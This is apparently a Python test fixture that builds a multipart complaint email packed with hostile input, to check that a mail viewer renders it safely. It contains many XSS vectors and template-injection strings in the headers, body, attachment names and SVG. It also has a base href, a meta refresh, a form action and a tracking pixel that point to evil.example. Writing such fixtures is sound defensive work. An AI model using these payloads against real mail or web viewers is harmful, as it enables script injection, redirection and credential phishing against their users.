"""A message whose every field tries to act on the page that shows it."""

from __future__ import annotations

import base64
from email.utils import format_datetime
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from datetime import datetime

ACT = "<script>window.acted=1</script><img src=x onerror=window.acted=1>"
QUOTED = "'\"><svg onload=window.acted=1>{{ 7*7 }}{% raise %}"

_HTML = f"""<html><head><style>body {{ background: url(https://evil.example/a) }}</style>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
</head><body onload="window.acted=1">
<p>I want to complain about the repairs service. {ACT}</p>
<a href="javascript:window.acted=1" id="bait">Look</a>
<iframe srcdoc="<script>parent.acted=1</script>"></iframe>
<form action="https://evil.example"><input name="csrf_token"><button>Go</button></form>
<img src="https://evil.example/pixel.png"><img src="cid:picture">
<svg><script>window.acted=1</script></svg><math><mtext><script>window.acted=1</script></mtext></math>
<p style="position:fixed;inset:0">Cover</p>
</body></html>"""


def hostile_message(at: datetime) -> bytes:
    """The bytes of it, received at that moment."""
    text = f"I want to complain about the repairs service. {ACT} {QUOTED}\nIt leaks. {ACT}"
    attached = base64.b64encode(f"<html>{ACT}</html>".encode()).decode()
    picture = base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg'>{ACT}</svg>".encode())
    lines = [
        f"Received: from a.example by mx1.harrowmere.example; {format_datetime(at)}",
        f"Date: {format_datetime(at)}",
        f'From: "{ACT.replace(chr(34), "")}" <hostile@example.net>',
        "To: complaints@harrowmere.example",
        f"Subject: Complaint {ACT} {QUOTED}",
        "Message-ID: <hostile.1@example.net>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="m"',
        "",
        "--m",
        'Content-Type: multipart/alternative; boundary="a"',
        "",
        "--a",
        "Content-Type: text/plain; charset=utf-8",
        "",
        text,
        "--a",
        "Content-Type: text/html; charset=utf-8",
        "",
        _HTML,
        "--a--",
        "--m",
        f'Content-Type: text/html; name="{QUOTED.replace(chr(34), "")}.html"',
        'Content-Disposition: attachment; filename="a<script>b.html"',
        "Content-Transfer-Encoding: base64",
        "",
        attached,
        "--m",
        "Content-Type: image/svg+xml; name=picture.svg",
        "Content-ID: <picture>",
        "Content-Disposition: inline; filename=picture.svg",
        "Content-Transfer-Encoding: base64",
        "",
        picture.decode(),
        "--m--",
        "",
    ]
    return "\r\n".join(lines).encode()
